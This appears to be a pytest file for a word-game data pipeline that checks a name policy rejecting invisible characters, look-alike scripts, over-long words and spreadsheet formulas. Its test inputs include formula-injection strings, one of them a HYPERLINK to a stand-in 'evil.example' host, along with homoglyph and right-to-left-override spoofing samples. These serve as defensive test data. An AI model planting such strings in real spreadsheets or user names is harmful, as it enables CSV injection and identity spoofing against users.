"""The name policy (issue 24): invisible characters, look-alike scripts, compatibility forms,
over-long words and formula strings never become a cue, a concept, a SWOW word or a display name.
Each test plays the attack through the real entry point (annotation import, SWOW ingestion, the
game's display names) and would fail on the code before the policy."""

from __future__ import annotations

import csv
import json
import sys
import unicodedata
from pathlib import Path

import pytest
import regex

from gavil.domain.names import BLANK_GRAPHICS, MAX_WORD, NameError_, clean_word, is_invisible
from gavil.domain.vocabulary import clean_cue, normalize_name
from gavil.game.service import GameError, clean_name
from stages.import_annotations import import_all
from stages.ingest_concepts import ingest
from tests.helpers import RELEASE

KEY = b"k"
C5 = ["rocket", "cat", "moon", "coffee", "brick"]
FORMULAS = ["=1+2", "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x","click")', "+cmd", "-2+3"]


def _creations(tmp_path: Path, rows: list[dict]) -> Path:
    raw = tmp_path / "raw"
    (raw / "b1").mkdir(parents=True)
    (raw / "b1" / "creations.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    return raw


def _creation(iid: str, cue: str, cands=C5, assoc=("rocket", "moon")) -> dict:
    return {"instance_id": iid, "spymaster_id": "S", "cue": cue, "candidates": list(cands), "associations": list(assoc)}


def _invisible_space() -> list[str]:
    """Every code point in Default_Ignorable_Code_Point, Cf, or Z* other than the ASCII space
    (the classes the policy names), from the Unicode tables, not a hand list."""
    di = regex.compile(r"\p{Default_Ignorable_Code_Point}")
    out = []
    for cp in range(sys.maxunicode + 1):
        ch = chr(cp)
        cat = unicodedata.category(ch)
        if ch != " " and (cat == "Cf" or cat[0] == "Z" or di.match(ch)):
            out.append(ch)
    return out


INVISIBLE = _invisible_space()


# ----------------------------------------------------------------------------- the policy itself
def test_the_invisible_set_is_derived_from_the_unicode_properties():
    # the reported ones are in it, without a hand list (except the two blank graphics, named)
    for ch in "\ufe0f\u3164\u115f\u1160\uffa0\u034f\u200b\u202e\u2066\U000e0041\u00ad\u180e\u3000":
        assert ch in INVISIBLE or ch in BLANK_GRAPHICS, f"U+{ord(ch):04X}"
    assert len(INVISIBLE) > 4000  # DI alone has 4,174 code points


def test_every_invisible_code_point_is_refused_in_every_position():
    for ch in INVISIBLE + sorted(BLANK_GRAPHICS):
        assert is_invisible(ch), f"U+{ord(ch):04X}"
        for word in (f"sky{ch}", f"{ch}sky", f"s{ch}ky"):
            folded = unicodedata.normalize("NFKC", word).strip()
            if folded in ("sky", "s ky"):  # NFKC made it a plain space: the stored form is visible
                continue
            with pytest.raises(NameError_):
                clean_cue(word)


@pytest.mark.parametrize("cue", ["sky\ufe0f", "sky\u3164", "sky\u034f", "sky\u2800", "sky\U000e0041", "\u202esky"])
def test_reported_invisible_cues_are_refused(cue):
    with pytest.raises(ValueError, match="invisible"):
        clean_cue(cue)


@pytest.mark.parametrize("word", ["dоg", "cаt", "Ηello", "mоon"])  # Cyrillic о/а, Greek Η inside Latin
def test_mixed_script_confusables_are_refused(word):
    with pytest.raises(NameError_, match="mixes scripts"):
        clean_word(word)
    with pytest.raises(ValueError):
        clean_cue(word)


@pytest.mark.parametrize("word", ["сор", "рор"])  # all-Cyrillic words that read as Latin "cop", "pop"
def test_whole_script_latin_look_alikes_are_refused(word):
    with pytest.raises(NameError_, match="Latin"):
        clean_word(word)


@pytest.mark.parametrize("word", ["café", "naïve", "食べる", "слово", "co-pilot", "mcdonald's", "Sky"])
def test_real_words_pass(word):
    assert clean_word(word) == unicodedata.normalize("NFKC", word)


@pytest.mark.parametrize("n", [MAX_WORD + 1, 5000, 10000])
def test_overlong_words_are_refused_without_echoing_them(n):
    with pytest.raises(NameError_) as e:
        clean_cue("a" * n)
    assert f"at most {MAX_WORD}" in str(e.value) and len(str(e.value)) < 200


@pytest.mark.parametrize("cue", FORMULAS + ["sky1", "a_b", "-sky", "sky-", "a--b", "two words", "x"])
def test_cues_are_letters_with_internal_hyphen_or_apostrophe(cue):
    with pytest.raises(ValueError):
        clean_cue(cue)


def test_a_full_width_word_is_its_ascii_twin():
    assert clean_cue("ｄｏｇ") == "dog" and normalize_name("ＤＯＧ") == normalize_name("dog")


def test_every_released_name_passes_unchanged():
    for f in ("game_5_6.csv", "game_10_12.csv", "swow.csv", "winogavil_dataset.csv"):
        with open(RELEASE / f, newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                assert clean_word(row["cue"]) == row["cue"]
                for col in ("candidates", "associations"):
                    for name in json.loads(row[col]):
                        assert clean_word(name) == name


# ----------------------------------------------------------------------------- through the import
def test_annotation_import_keeps_one_sky_and_rejects_the_twins_with_reasons(tmp_path):
    cues = ["sky", "sky\ufe0f", "sky\u3164", "sky\u034f", "sky\u2800", "dоg", "dog", "a" * 5000, *FORMULAS]
    raw = _creations(tmp_path, [_creation(f"i{k}", c) for k, c in enumerate(cues)])
    res = import_all(None, [], raw, KEY)
    assert sorted(res.instances["cue"]) == ["dog", "sky"]
    assert len(res.rejects) == len(cues) - 2 and res.rejects["reason"].str.len().gt(10).all()


@pytest.mark.parametrize("bad", ["cat\u200b", "cаt", "=1+2", "c" * 65])
def test_candidate_and_association_names_are_checked(tmp_path, bad):
    cands = ["rocket", bad, "moon", "coffee", "brick"]
    raw = _creations(tmp_path, [_creation("i1", "space", cands, ("rocket", "moon"))])
    res = import_all(None, [], raw, KEY)
    assert res.instances.empty and len(res.rejects) == 1


def test_a_released_row_with_a_hidden_cue_is_rejected(tmp_path):
    text = (RELEASE / "game_5_6.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    row = text[1]
    cue = next(csv.DictReader(text[:2]))["cue"]
    (tmp_path / "game_5_6.csv").write_text(text[0] + row.replace(cue, "=1+2", 1), encoding="utf-8")
    res = import_all(tmp_path, [{"file": "game_5_6.csv", "dataset": "game"}], None, KEY)
    assert res.instances.empty and "must start with a letter" in res.rejects["reason"].iloc[0]


# ----------------------------------------------------------------------------- SWOW ingestion
def test_swow_words_failing_the_policy_are_rejected_rows_with_reasons(tmp_path):
    p = tmp_path / "strength.SWOW-EN.R123.csv"
    rows = [
        ("moon", "sun", 4),
        ("moon", "moon\u200b", 3),
        ("moon", "\u202enoom", 2),
        ("moon", "=1+2", 1),
        ("stаr", "sky", 1),
    ]
    n = {"moon": 10, "stаr": 1}
    p.write_text(
        "cue\tresponse\tR123\tN\tR123.Strength\n" + "".join(f"{c}\t{r}\t{k}\t{n[c]}\t{k / n[c]}\n" for c, r, k in rows),
        encoding="utf-8",
    )
    res = ingest(p)
    assert res.edges[["cue", "response"]].values.tolist() == [["moon", "sun"]]
    assert res.rejects is not None and len(res.rejects) == 4
    assert res.rejects["reason"].notna().all() and res.metrics["rejected_names"]["edges"] == 4


# ----------------------------------------------------------------------------- display names
@pytest.mark.parametrize("name", ["bob\u200b", "\u3164", "bob\u2800", "bоb", "b" * 33, "\u202ebob", " "])
def test_display_names_refuse_invisible_lookalike_and_long(name):
    with pytest.raises(GameError) as e:
        clean_name(name)
    assert e.value.status == 400


def test_a_full_width_display_name_is_the_same_name():
    assert clean_name("ＡＬＩＣＥ") == "ALICE"
    assert normalize_name(clean_name("ＡＬＩＣＥ")) == normalize_name(clean_name("alice"))
    assert clean_name("player_1 (Bob)") == "player_1 (Bob)"  # digits and punctuation are fine here
